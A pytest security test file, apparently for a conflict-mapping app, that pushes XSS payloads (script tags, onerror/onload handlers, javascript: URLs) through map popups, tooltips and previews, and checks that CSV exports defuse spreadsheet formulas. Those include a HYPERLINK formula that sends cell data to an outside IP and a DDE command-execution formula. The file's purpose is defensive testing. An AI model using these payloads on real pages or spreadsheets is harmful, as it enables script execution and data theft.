"""Nothing from an article may run in the analyst's browser.

Claims whose quote, title, source, place, actor, anchor, subject, verdict and URL carry
``<script>`` and ``onerror`` payloads are pushed through every HTML producer the app
uses: popup and tooltip fragments are parsed and must hold no active markup; the whole
rendered map page must have exactly the markup of the same map built from harmless
strings (so no payload opened or closed an element, not even ``</script>`` inside the
embedded JSON); and one headless Chromium run opens every popup and tooltip and checks
that no dialog fires and the payloads show as text.
"""

from __future__ import annotations

import importlib.util
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from bad_inputs import PAYLOADS

#: Elements article text may legitimately produce inside a popup, tooltip or table cell.
ALLOWED_TAGS = {"a", "b", "br", "div", "span", "q", "i", "em", "strong", "small", "ul", "ol",
                "li", "p", "table", "thead", "tbody", "tr", "td", "th", "mark", "details",
                "summary", "code", "sup", "sub", "hr", "svg", "path", "circle", "rect",
                "polygon", "line", "g"}
STRING_COLUMNS = ("quote", "title", "source", "place", "actor", "actor_norm", "anchor", "subject",
                  "verdict", "qualifier", "direction", "conflict", "precision", "unit", "action")
JS_PAYLOADS = (*PAYLOADS, "</script><script>alert(2)</script>", "\"'><svg onload=alert(3)>",
               "\u2028alert(4)\u2029", "{{7*7}}")


class _Audit(HTMLParser):
    """Collect every start tag and attribute of an HTML fragment or page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.handlers: list[tuple[str, str]] = []
        self.urls: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                self.urls.append(value)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def audit(fragment: str) -> _Audit:
    parser = _Audit()
    parser.feed(fragment)
    parser.close()
    return parser


def fragment_problems(fragment: str) -> list[str]:
    """Active markup in an HTML fragment built from article text."""
    found = audit(fragment)
    problems = [f"<{t}>" for t in found.tags if t not in ALLOWED_TAGS]
    problems += [f"{tag} {name}=" for tag, name in found.handlers]
    problems += [f"url {u!r}" for u in found.urls
                 if not re.match(r"^(https?:|#|/(?!/))", u.strip(), re.IGNORECASE)]
    return problems


def claims_frame(strings: tuple[str, ...]):
    """A claims frame (Store.claims_frame columns) whose every text column carries a string."""
    import pandas as pd

    rows = []
    for i, s in enumerate(strings):
        common = {c: f"{s} {c}" for c in STRING_COLUMNS}
        common.update(article_id=i, published="2020-01-13", event_date="2020-01-12",
                      url="javascript:alert(1)" if i % 2 else f"https://example.org/?q={s}",
                      radius_km=120.0, place_id=f"user:{i}", conflict="test")
        rows.append({**common, "claim_id": 2 * i, "kind": "control", "action": "captured",
                     "lat": 30.0 + i, "lon": 15.0 + i, "precision": "region"})
        rows.append({**common, "claim_id": 2 * i + 1, "kind": "distance", "action": None,
                     "lat": 31.0 + i, "lon": 16.0, "precision": "town", "value_min": 90.0,
                     "value_max": 100.0, "unit": "km", "anchor_lat": 32.9, "anchor_lon": 13.2,
                     "subject_lat": 31.0 + i, "subject_lon": 16.0, "true_km": 192.0,
                     "diff_km": -92.0, "diff_pct": -48.0, "bearing": 120.0})
    return pd.DataFrame(rows)


def harmless(strings: tuple[str, ...]) -> tuple[str, ...]:
    """Strings of the same shape with no markup characters at all."""
    return tuple(re.sub(r"[^A-Za-z0-9 ]", "x", s) for s in strings)


layers = pytest.importorskip("geo.layers")


def _all_strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _all_strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _all_strings(v)


def test_popup_tooltip_and_ring_fragments_hold_no_active_markup():
    frame = claims_frame(JS_PAYLOADS)
    colors = layers.actor_colors(frame["actor_norm"])
    records = (layers.claim_records(frame, colors) + layers.area_records(frame, colors)
               + layers.distance_records(frame))
    assert records, "no records built"
    problems = {s[:80]: p for r in records for s in _all_strings(r) if (p := fragment_problems(s))}
    assert not problems, problems
    shown = " ".join(" ".join(audit(s).text) for r in records for s in _all_strings(r))
    for payload in PAYLOADS:
        assert payload in shown, f"payload not shown as text: {payload}"


def test_popup_never_links_javascript_urls():
    frame = claims_frame(("x",) * 2)
    for row in frame.to_dict("records"):
        urls = audit(layers.popup_html(row)).urls
        assert all(u.startswith(("http://", "https://")) for u in urls), urls


def _render(frame) -> str:
    from geo.claims_map import build_claims_map

    fmap, _ = build_claims_map(frame, offline=True, cluster=False, notes=list(JS_PAYLOADS))
    return fmap.get_root().render()


def test_rendered_map_page_has_the_same_markup_with_and_without_payloads():
    pytest.importorskip("geo.claims_map")
    hostile = _render(claims_frame(JS_PAYLOADS))
    benign = _render(claims_frame(harmless(JS_PAYLOADS)))
    for payload in JS_PAYLOADS[:4]:
        assert payload not in hostile, f"raw payload in the page: {payload!r}"
    hostile_audit, benign_audit = audit(hostile), audit(benign)
    assert hostile_audit.tags == benign_audit.tags
    assert hostile_audit.handlers == benign_audit.handlers
    assert "\u2028" not in hostile and "\u2029" not in hostile


def test_front_popups_escape_claim_text():
    fronts_layer = pytest.importorskip("geo.fronts_layer")
    lookup = {str(i): {"quote": p, "source": p, "published": "2020-01-01", "event_date": p,
                       "actor": p, "place": p, "title": p, "url": "javascript:alert(1)"}
              for i, p in enumerate(JS_PAYLOADS)}
    html_text = fronts_layer.claims_popup_html(PAYLOADS[0], list(lookup), lookup, extra=PAYLOADS)
    assert not fragment_problems(html_text), fragment_problems(html_text)


# ------------------------------------------------------------------------------- Chromium

CHROMIUM = Path("/usr/bin/chromium")
ORIGIN = "http://conflictmap.test"


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium is not installed")
@pytest.mark.skipif(importlib.util.find_spec("playwright") is None, reason="playwright missing")
def test_map_popups_and_tooltips_show_payloads_as_text_in_chromium():
    pytest.importorskip("geo.claims_map")
    assets = pytest.importorskip("app.assets")
    from playwright.sync_api import sync_playwright

    from geo.claims_map import build_claims_map

    frame = claims_frame(JS_PAYLOADS)
    fmap, _ = build_claims_map(frame, offline=True, cluster=False, notes=list(JS_PAYLOADS))
    assets.localize_map(fmap, offline=True, base_url_path="")
    page_html = fmap.get_root().render()
    dialogs: list[str] = []
    left_machine: list[str] = []

    def route(request_route):
        url = request_route.request.url
        if url == f"{ORIGIN}/map.html":
            return request_route.fulfill(body=page_html, content_type="text/html")
        if url.startswith(f"{ORIGIN}/app/static/"):
            path = assets.STATIC_DIR / url[len(f"{ORIGIN}/app/static/"):].split("?")[0]
            if path.is_file():
                return request_route.fulfill(path=str(path))
        left_machine.append(url)
        return request_route.abort()

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM),
                                     args=["--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.route("**/*", route)
            page.goto(f"{ORIGIN}/map.html")
            page.wait_for_function("window.cmClaims && window.cmClaims.count > 0", timeout=15000)
            opened = page.evaluate(
                """() => {
                    const texts = [];
                    for (const m of Object.values(window.cmClaims.markers)) {
                        m.openTooltip(); m.openPopup();
                        const p = m.getPopup().getElement();
                        const t = m.getTooltip().getElement();
                        texts.push((p ? p.innerText : '') + ' ' + (t ? t.innerText : ''));
                    }
                    return texts;
                }"""
            )
            page.wait_for_timeout(300)
            injected = page.evaluate(
                """() => document.querySelectorAll(
                    '.leaflet-popup-content img, .leaflet-popup-content script,'
                    + '.leaflet-tooltip img, .leaflet-tooltip script, .cm-legend img,'
                    + '.cm-legend script, .leaflet-popup-content iframe,'
                    + '.leaflet-popup-content [onerror], .leaflet-tooltip [onload]').length"""
            )
            legend = page.inner_text(".cm-legend") if page.query_selector(".cm-legend") else ""
        finally:
            browser.close()
    assert not dialogs, f"article content ran in the browser: {dialogs}"
    assert injected == 0
    assert len(opened) == len(frame), "every claim has a marker whose popup opened"
    joined = " ".join(opened)
    for payload in PAYLOADS:
        assert payload in joined, f"payload not shown as text in a popup: {payload}"
    assert not left_machine, f"requests that would leave the machine: {left_machine[:5]}"
    assert legend == "" or "alert" in legend or "Actors" in legend


# ------------------------------------------------------------------------ upload preview

def test_preview_highlighting_escapes_text_spans_and_place_names():
    preview = pytest.importorskip("app.preview")
    from gazetteer.model import Candidate, Mention, Place

    text = " ".join(f"Forces entered {p} near Sirte." for p in JS_PAYLOADS)
    evil_place = Place(id="user:1", name=PAYLOADS[1] + '" onmouseover="alert(5)', lat=31.2,
                       lon=16.6, feature_code=PAYLOADS[0], country_code="<b>",
                       precision="town")
    mentions = []
    for payload in JS_PAYLOADS:
        start = text.index(payload)
        # Spans that start and end inside the markup, so escaping must work on pieces.
        for a, b in ((start, start + len(payload)), (start + 1, start + 4)):
            mentions.append(Mention(a, b, text[a:b], (Candidate(evil_place, 1.0, ("x",)),)))
        mentions.append(Mention(start + 2, start + 6, text[start + 2:start + 6], ()))
    out = preview.highlighted_html(text, mentions)
    assert not fragment_problems(out), fragment_problems(out)
    shown = "".join(audit(out).text)
    for payload in PAYLOADS:
        assert payload in shown


@pytest.mark.parametrize("limit", [5, 17, 60])
def test_preview_cut_mid_markup_stays_inert(limit):
    preview = pytest.importorskip("app.preview")
    out = preview.highlighted_html(PAYLOADS[0] * 3, [], limit=limit)
    assert not fragment_problems(out)


# ------------------------------------------------------------------------------- exports

FORMULAS = ("=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1,1)",
            "=cmd|' /C calc'!A0", "\t=1+1")


def test_csv_export_defuses_spreadsheet_formulas():
    import csv
    import io

    export = pytest.importorskip("store.export")
    frame = claims_frame(FORMULAS)
    frame["lon"] = -frame["lon"]  # negative numbers must stay numbers
    text = export.to_acled_csv(frame)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column in ("latitude", "longitude", "true_km", "year", "geo_precision",
                          "time_precision"):
                if cell:
                    float(cell)
                continue
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)


def test_geojson_export_is_strict_json_even_with_infinite_numbers():
    import json
    import math

    export = pytest.importorskip("store.export")
    frame = claims_frame(("a", "b"))
    frame.loc[0, "radius_km"] = math.inf
    frame.loc[1, "true_km"] = -math.inf
    frame.loc[1, "diff_pct"] = math.nan

    def reject(constant):
        raise ValueError(f"not JSON: {constant}")

    data = json.loads(export.to_geojson(frame), parse_constant=reject)
    assert len(data["features"]) == len(frame)
